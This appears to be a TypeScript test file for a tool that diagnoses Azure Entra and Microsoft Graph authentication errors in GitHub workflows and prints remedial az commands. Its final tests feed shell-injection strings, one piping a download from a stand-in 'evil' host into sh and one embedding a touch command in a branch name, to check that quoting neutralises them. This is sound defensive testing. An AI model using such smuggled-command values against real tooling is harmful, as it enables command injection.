import { execFileSync } from 'node:child_process'
import {
  catalogueEntry,
  credentialName,
  DOC_CONTEXT,
  federatedCredentialCommand,
  grantOwnedByCommand,
  shellQuote,
  hintContext,
  hintsFor,
  subjectPrefix,
  synchronizationRoles
} from '../../src/catalogue.js'
import { entraCatalogueId } from '../../src/entra-error.js'
import { diagnoseGraphResponse } from '../../src/graph-diagnosis.js'
import { readGraphToken } from '../../src/graph-token.js'
import { escapeOutsideCode } from '../../src/troubleshooting-doc.js'
import { configWarnings } from '../../src/warnings.js'
import { fakeJwt, response, SAMPLE_TENANT, sampleConfig } from '../fakes/fakes.js'

const TENANT = SAMPLE_TENANT

const config = sampleConfig

describe('AADSTS70021 with an audience input that is neither the cloud’s default nor Entra’s documented one', () => {
  it.each([
    ['global, another cloud’s audience', { audience: 'api://AzureADTokenExchangeUSGov' }, 'entra-audience-input'],
    ['global, a custom audience', { audience: 'api://Custom' }, 'entra-audience-input'],
    [
      'us-gov, api://AzureADTokenExchange',
      { cloud: 'us-gov', audience: 'api://AzureADTokenExchange' },
      'entra-no-matching-credential'
    ],
    ['us-gov, no audience input', { cloud: 'us-gov' }, 'entra-no-matching-credential'],
    ['global, no audience input', {}, 'entra-no-matching-credential']
  ])('%s → %s', (_n, inputs, id) => {
    expect(entraCatalogueId('AADSTS70021', undefined, config(inputs))).toBe(id)
  })

  it.each([
    [
      'global',
      {},
      ['Remove the audience input: the token then asks for this cloud’s default, api://AzureADTokenExchange.']
    ],
    [
      'us-gov',
      { cloud: 'us-gov' },
      [
        'Remove the audience input: the token then asks for this cloud’s default, api://AzureADTokenExchangeUSGov (if the credential holds api://AzureADTokenExchange, set `audience: api://AzureADTokenExchange` instead).'
      ]
    ]
  ])('in %s, one fix: remove the input, never change the credential', (_n, inputs, fixes) => {
    const c = hintContext(config({ ...inputs, audience: 'api://Typo' }))
    expect(catalogueEntry('entra-audience-input').fixes(c)).toEqual(fixes)
  })

  it('names a credential added minutes ago last, after what the evidence can show', () => {
    const fixes = catalogueEntry('entra-no-matching-credential').fixes(hintContext(config({ cloud: 'us-gov' })))
    expect(fixes.at(-1)).toMatch(/^If they match and the credential was added in the last several minutes/)
    expect(fixes.slice(0, -1).join('\n')).not.toMatch(/several minutes/)
    expect(catalogueEntry('entra-no-matching-credential').cause).not.toMatch(/several minutes/)
  })
})

describe('audience hints: a federated credential holds exactly one audience', () => {
  it.each([
    [
      'us-gov, Entra’s documented audience asked',
      { cloud: 'us-gov', audience: 'api://AzureADTokenExchange' },
      'api://AzureADTokenExchange'
    ],
    ['us-gov, its default asked', { cloud: 'us-gov' }, 'api://AzureADTokenExchangeUSGov']
  ])(
    '%s: offers setting the audience or changing the credential’s one audience, never adding one',
    (_n, inputs, asked) => {
      const hints = hintsFor('entra-no-matching-credential', hintContext(config(inputs), { audience: asked }))
      const text = hints.join('\n')
      expect(text).not.toMatch(/add \S+ to the credential’s audiences/)
      expect(text).toContain(
        `or change the credential’s audience to ${asked} (a credential holds exactly one audience)`
      )
      expect(text).not.toMatch(/CLI|Terraform/)
    }
  )

  it('names the national portal’s audience only in a national cloud', () => {
    const national = hintsFor('entra-no-matching-credential', hintContext(config({ cloud: 'china' }))).join('\n')
    expect(national).toContain('may hold that cloud’s audience (api://AzureADTokenExchangeChina)')
    expect(national).toContain('set `audience: api://AzureADTokenExchange`')
  })

  it.each([
    ['no audience input', {}, false],
    [
      'api://AzureADTokenExchange in us-gov (a documented value)',
      { cloud: 'us-gov', audience: 'api://AzureADTokenExchange' },
      false
    ],
    [
      'the cloud’s own default given explicitly',
      { cloud: 'china', audience: 'api://AzureADTokenExchangeChina' },
      false
    ],
    ['another cloud’s audience', { audience: 'api://AzureADTokenExchangeUSGov' }, true],
    ['a custom audience', { audience: 'api://Custom' }, true]
  ])('warns about the audience input only when it is unusual: %s', (_n, inputs, warns) => {
    const cause = catalogueEntry('audience-not-cloud-default').cause
    expect(configWarnings(config(inputs)).some((warning) => warning.startsWith(cause))).toBe(warns)
  })
})

describe('a GitHub token outside its valid time range (AADSTS700024, AADSTS500133)', () => {
  it.each(['AADSTS700024', 'AADSTS500133'])(
    '%s names the time between fetch and exchange, not the runner clock',
    (code) => {
      const id = entraCatalogueId(code, undefined, config())
      expect(id).toBe('entra-assertion-time')
      const [cause, ...fixes] = hintsFor(id!, hintContext(config()))
      expect(cause).toContain('Entra found the GitHub token outside its valid time range')
      expect(cause).toContain('The runner’s clock plays no part')
      expect(fixes[0]).toMatch(/^Re-run the job/)
      expect(fixes.join(' ')).not.toMatch(/synchronise|NTP/)
    }
  )
})

describe('directory roles that manage provisioning', () => {
  it.each([
    [['9b895d92-2cd3-44c7-9d02-a6ac2d5ea5c3'], ['Application Administrator (9b895d92-2cd3-44c7-9d02-a6ac2d5ea5c3)']],
    [
      ['158C047A-C907-4556-B7EF-446551A6B5F7'],
      ['Cloud Application Administrator (158C047A-C907-4556-B7EF-446551A6B5F7)']
    ],
    [
      ['8ac3fc64-6eca-42ea-9e69-59f4c7b60eb2'],
      ['Hybrid Identity Administrator (8ac3fc64-6eca-42ea-9e69-59f4c7b60eb2)']
    ],
    [['62e90394-69f5-4237-9190-012177145e10'], ['Global Administrator (62e90394-69f5-4237-9190-012177145e10)']],
    [['b79fbf4d-3ef9-4689-8143-76b194e85509', '88d8e3e3-8f55-4a1e-953a-9b9898b8876b'], []],
    [['toString', 'constructor'], []]
  ])('%j → %j', (wids, named) => {
    expect(synchronizationRoles(wids)).toEqual(named)
  })
})

describe('a refusal with a directory role that manages provisioning', () => {
  it('names the role in the evidence, and blames nothing else', () => {
    const diagnosis = diagnoseGraphResponse({
      response: response(403, { error: { code: 'Authorization_RequestDenied', message: '' } }, { 'request-id': 'r' }),
      call: {
        method: 'POST',
        url: 'https://graph.microsoft.com/v1.0/servicePrincipals/x/synchronization/acquireAccessToken',
        operation: 'acquireAccessToken'
      },
      token: readGraphToken(
        fakeJwt({
          aud: 'https://graph.microsoft.com',
          tid: TENANT,
          wids: ['b79fbf4d-3ef9-4689-8143-76b194e85509', '158c047a-c907-4556-b7ef-446551a6b5f7']
        })
      ),
      config: config(),
      now: 0
    })
    expect(diagnosis?.id).toBe('graph-denied')
    expect(diagnosis?.evidence).toContainEqual([
      'directory role',
      'Cloud Application Administrator (158c047a-c907-4556-b7ef-446551a6b5f7)'
    ])
  })
})

describe('subjects: the prefix as presented, immutable forms, and how wide a branch credential is', () => {
  const repository = 'contoso/release-tools'
  it.each([
    ['repo:contoso/release-tools:environment:production', 'repo:contoso/release-tools'],
    ['repo:contoso@65/release-tools@74:environment:production', 'repo:contoso@65/release-tools@74'],
    ['repo:contoso@65/release-tools@74:ref:refs/heads/main', 'repo:contoso@65/release-tools@74'],
    ['repo:contoso/release-tools:pull_request', 'repo:contoso/release-tools'],
    [
      'repo:contoso/release-tools:job_workflow_ref:contoso/ci/.github/workflows/a.yml@refs/heads/main',
      'repo:contoso/release-tools'
    ],
    ['repository_owner_id:65:repository_id:74:environment:production', 'repository_owner_id:65:repository_id:74'],
    ['something-custom', 'repo:contoso/release-tools']
  ])('%s → %s', (subject, prefix) => {
    expect(subjectPrefix({ subject, repository })).toBe(prefix)
  })

  const noEnvironment = (subject: string) =>
    hintsFor(
      'entra-subject-no-environment',
      hintContext(config(), { subject, repository, issuer: 'https://token.actions.githubusercontent.com' })
    )

  it('builds the environment subject from the presented immutable prefix, not from the repository name', () => {
    const [cause, first] = noEnvironment('repo:contoso@65/release-tools@74:ref:refs/heads/main')
    expect(cause).toContain('repo:OWNER@OWNER-ID/REPO@REPO-ID:…')
    expect(cause).toContain('the action cannot see the credential to tell')
    expect(first).toContain('(subject repo:contoso@65/release-tools@74:environment:<name>)')
  })

  it.each([
    [
      'repo:contoso/release-tools:ref:refs/heads/main',
      'any workflow or job that runs on this ref, not protected by an environment’s rules'
    ],
    ['repo:contoso/release-tools:pull_request', 'every pull-request workflow run in this repository, from any branch']
  ])('labels the credential for %s by what it trusts, second', (subject, label) => {
    const fixes = noEnvironment(subject).slice(1)
    expect(fixes).toHaveLength(2)
    expect(fixes[1]).toMatch(
      new RegExp(
        `^Only if this workflow should be trusted without an environment \\(wider than a protected environment: ${label}\\)`
      )
    )
  })

  it.each([
    [
      'repo:contoso@65/release-tools@74:environment:production',
      'entra-subject-immutable-form',
      /^The token presents the immutable subject form/
    ],
    [
      'repo:contoso/release-tools:environment:production',
      'entra-subject-names-form',
      /^The token presents the names subject form/
    ],
    ['repository_owner:contoso:environment:production', 'entra-subject-mismatch', /organisation’s own subject template/]
  ] as const)('a mismatch of %s leads with the form the token presents, then one change', (subject, id, cause) => {
    const claims = { issuer: 'i', subject, audience: 'a', repository, environment: 'production', jobWorkflowRef: '' }
    expect(entraCatalogueId('AADSTS700213', claims, config())).toBe(id)
    const [first, ...fixes] = hintsFor(id, hintContext(config(), { subject, repository, environment: 'production' }))
    expect(first).toMatch(cause)
    expect(fixes).toEqual([
      expect.stringMatching(/^Compare the subject presented/),
      `Change the subject of the credential meant for this job to exactly the one presented: ${subject}`
    ])
  })
})

describe('a Graph token the runner’s clock calls expired', () => {
  it('says the runner’s clock is the likely fault in a short run, not the token', () => {
    const diagnosis = diagnoseGraphResponse({
      response: response(
        401,
        { error: { code: 'InvalidAuthenticationToken', message: 'Lifetime validation failed' } },
        { 'request-id': 'r' }
      ),
      call: {
        method: 'POST',
        url: 'https://graph.microsoft.com/v1.0/servicePrincipals/x/synchronization/acquireAccessToken',
        operation: 'acquireAccessToken'
      },
      token: readGraphToken(fakeJwt({ aud: 'https://graph.microsoft.com', tid: TENANT, exp: 1000 })),
      config: config(),
      now: 2_000_000
    })
    expect(diagnosis?.id).toBe('graph-token-mismatch')
    expect(diagnosis?.evidence).toContainEqual([
      'token check',
      'audience matches the host called; tenant matches tenant-id; expired by the runner’s clock'
    ])
    expect(diagnosis?.hints).toContain(
      'If the runner’s clock says this token had expired: a token Entra has just issued lasts about an hour, so in a short run the runner’s clock is likely wrong and Graph refused for another reason: synchronise the clock and re-run.'
    )
  })

  it('accepts Graph’s application id as the audience in any cloud’s Graph', () => {
    const diagnosis = diagnoseGraphResponse({
      response: response(401, { error: { code: 'InvalidAuthenticationToken', message: '' } }, { 'request-id': 'r' }),
      call: {
        method: 'POST',
        url: 'https://microsoftgraph.chinacloudapi.cn/v1.0/servicePrincipals/x/synchronization/acquireAccessToken',
        operation: 'acquireAccessToken'
      },
      token: readGraphToken(fakeJwt({ aud: '00000003-0000-0000-c000-000000000000', tid: TENANT, exp: 4000 })),
      config: config({ cloud: 'china' }),
      now: 1000
    })
    expect(diagnosis?.id).toBe('graph-invalid-token')
  })
})

describe('the owner command', () => {
  it.each([
    ['global', 'signed in with `az login`', 'https://graph.microsoft.com'],
    [
      'us-gov-dod',
      'signed in with `az cloud set --name AzureUSGovernment` and `az login`',
      'https://dod-graph.microsoft.us'
    ],
    [
      'china',
      'signed in with `az cloud set --name AzureChinaCloud` and `az login`',
      'https://microsoftgraph.chinacloudapi.cn'
    ]
  ])(
    'in %s names the sign-in, the least role that may add an owner, and the Graph as --resource',
    (cloud, signIn, graph) => {
      const fix = hintsFor('graph-not-owner', hintContext(config({ cloud })))[1]
      expect(fix).toContain(`${signIn}, as an owner of the target or at least a Cloud Application Administrator`)
      expect(fix).toContain(`/owners/$ref' --resource '${graph}' --body '`)
      expect(fix).not.toContain('or an Application Administrator')
    }
  )
})

describe('AADSTS700027 (signature validation)', () => {
  it('points at the issuer’s published keys and their reachability, not at the credential’s issuer', () => {
    const issuer = 'https://github.contoso.com/_services/token'
    const [cause, fix] = hintsFor('entra-assertion-signature', hintContext(config(), { issuer }))
    expect(cause).toBe('Entra could not validate the token’s signature with the keys published by the issuer it names.')
    expect(fix).toContain(`Entra fetches ${issuer}/.well-known/openid-configuration and the keys (JWKS) it names`)
    expect(fix).toContain('on GitHub Enterprise Server that host must be reachable from the internet')
    expect(fix).not.toMatch(/federated credential’s issuer/)
  })
})

describe('federated credential names', () => {
  it.each([
    ['x', 'github-x'],
    [':::', 'github'],
    ['repo:o/r:ref:refs/heads/main', 'github-repo-o-r-ref-refs-heads-main']
  ])('%s → %s: 3–120 characters, letter first, letters, digits, - and _ only', (subject, name) => {
    expect(credentialName(subject)).toBe(name)
    expect(credentialName(subject)).toMatch(/^[A-Za-z0-9][A-Za-z0-9_-]{2,119}$/)
  })

  it('cuts a long subject to 120 characters', () => {
    expect(credentialName(`repo:o/r:environment:${'e'.repeat(200)}`)).toHaveLength(120)
  })
})

describe('the troubleshooting document’s Markdown', () => {
  it('escapes < outside code spans only, since GitHub shows &lt; literally inside them', () => {
    expect(escapeOutsideCode('set `audience: <other>` for <client-id> and `<x>`')).toBe(
      'set `audience: <other>` for &lt;client-id> and `<x>`'
    )
  })
})

describe('api-version beta', () => {
  it('reports what Graph’s beta metadata says, and invents no migration', () => {
    const [warning] = configWarnings(config({ 'api-version': 'beta' }))
    expect(warning).toContain('to be removed on 2027-07-06')
    expect(warning).toContain('It names no replacement for acquireAccessToken')
    expect(warning).toContain('“Use connectivityParameterEntry instead”')
    expect(warning).toContain('Set `api-version: v1.0`')
  })
})

describe('commands the hints print', () => {
  it('grants Application.ReadWrite.OwnedBy alone, by its app role id, to the caller’s service principal', () => {
    expect(grantOwnedByCommand({ graphEndpoint: 'https://graph.microsoft.us', callerObjectId: 'OID' })).toBe(
      `az rest --method POST --url 'https://graph.microsoft.us/v1.0/servicePrincipals/<graph-sp-id>/appRoleAssignedTo' --resource 'https://graph.microsoft.us' --body '{"principalId":"OID","resourceId":"<graph-sp-id>","appRoleId":"18a4783c-866b-4cc7-a460-3d5e5662c884"}'`
    )
  })

  it.each([
    ['graph-no-permission', 1],
    ['graph-read-only-permission', 1],
    ['graph-not-owner', 0]
  ] as const)('%s: the ownership fix says what ownership grants', (id, index) => {
    const fixes = catalogueEntry(id).fixes(DOC_CONTEXT)
    expect(fixes[index]).toContain(
      'ownership lets this workflow add credentials to the target and act as it: review what the target holds first'
    )
    expect(fixes.join('\n')).not.toContain('admin-consent')
  })

  it.each([
    ['client-id itself', '0B8E7C6D-5A4F-4E3D-8C2B-1A0F9E8D7C6B', 'graph-target-is-client-id'],
    ['another id', '3d2c1b0a-9f8e-4d7c-8b6a-5f4e3d2c1b0a', 'graph-object-not-found']
  ] as const)('a 404 for %s names that evidence first, then two fixes', (_n, target, id) => {
    const c = config({ 'service-principal-id': target })
    const diagnosis = diagnoseGraphResponse({
      response: response(404, { error: { code: 'Request_ResourceNotFound', message: 'x' } }, { 'request-id': 'r' }),
      call: { method: 'POST', url: 'u', operation: 'acquireAccessToken' },
      token: undefined,
      config: c,
      now: 0
    })
    expect(diagnosis?.id).toBe(id)
    const [, ...fixes] = diagnosis!.hints
    expect(fixes).toHaveLength(2)
    expect(fixes[0]).toMatch(/^service-principal-id takes the object ID of the target .*az ad sp show --id <appId>/)
  })
})

describe('printed commands are safe to paste', () => {
  it.each(["x';curl${IFS}evil|sh;'", "it's", 'plain', ''])(
    'quotes %p as one shell word that bash reads back unchanged',
    (text) => {
      const echoed = execFileSync('bash', ['-c', `printf %s ${shellQuote(text)}`], { encoding: 'utf8' })
      expect(echoed).toBe(text)
    }
  )

  it('keeps a subject from a branch name with a quote inside the --parameters word', () => {
    const subject = "repo:o/r:ref:refs/heads/x';touch${IFS}pwned;'"
    const command = federatedCredentialCommand({ clientId: 'C', issuer: 'https://i', subject, audience: 'a' })
    const words = execFileSync(
      'bash',
      ['-c', `for w in ${command.slice('az '.length)}; do printf '%s\\n' "$w"; done`],
      {
        encoding: 'utf8'
      }
    )
      .trim()
      .split('\n')
    expect(words.slice(0, 5)).toEqual(['ad', 'app', 'federated-credential', 'create', '--id'])
    expect(JSON.parse(words[words.length - 1])).toMatchObject({ subject })
  })
})
